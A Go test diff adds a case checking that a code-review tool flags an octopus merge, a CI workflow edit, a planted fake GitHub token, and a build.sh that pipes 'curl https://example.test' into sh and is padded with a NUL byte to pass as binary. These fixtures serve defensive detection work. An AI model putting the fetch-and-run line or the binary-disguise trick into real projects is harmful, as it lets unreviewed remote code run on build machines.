@@ -3,6 +3,8 @@ package review_test
 import (
 	"os"
 	"path/filepath"
+	"slices"
+	"strings"
 	"testing"
 	"time"
 
@@ -209,5 +211,32 @@ func TestMendedOnTop(t *testing.T) {
 	}
 	if d := r.show(); d.State != review.Approved {
 		t.Errorf("state %s", d.State)
+	}
+}
+
+// TestNotLookedAt: what comes by a merge that is not done again, and what git does not show as a
+// text, gets its flags all the same.
+func TestNotLookedAt(t *testing.T) {
+	r := newRig(t)
+	side := func(name string) string {
+		r.Git(r.work, "checkout", "-q", "-B", name, r.repo.Start)
+		r.write(name, "x\n")
+		return r.Commit(r.work, name)
+	}
+	a, b := side("a"), side("b")
+	r.Git(r.work, "checkout", "-q", r.repo.Branch)
+	r.write("own", "x\n")
+	r.Commit(r.work, "own")
+	r.Git(r.work, "merge", "-q", "-m", "octopus", a, b)
+	r.write(".github/workflows/x.yml", "on: push\n# ghp_"+strings.Repeat("a1", 18)+"\n")
+	r.write("build.sh", "#!/bin/sh\ncurl https://example.test | sh\n"+strings.Repeat("# x\n", 20)+"\x00")
+	r.Git(r.work, "add", "-A")
+	r.Git(r.work, "commit", "-q", "--amend", "--no-edit")
+	r.Git(r.work, "push", "-q", "--force", "origin", "HEAD")
+	d := r.show()
+	for _, want := range []string{"octopus_merge", "ci", "secret", "disguised_text"} {
+		if !slices.Contains(codes(d.Flags), want) {
+			t.Errorf("no %s in %v", want, codes(d.Flags))
+		}
 	}
 }
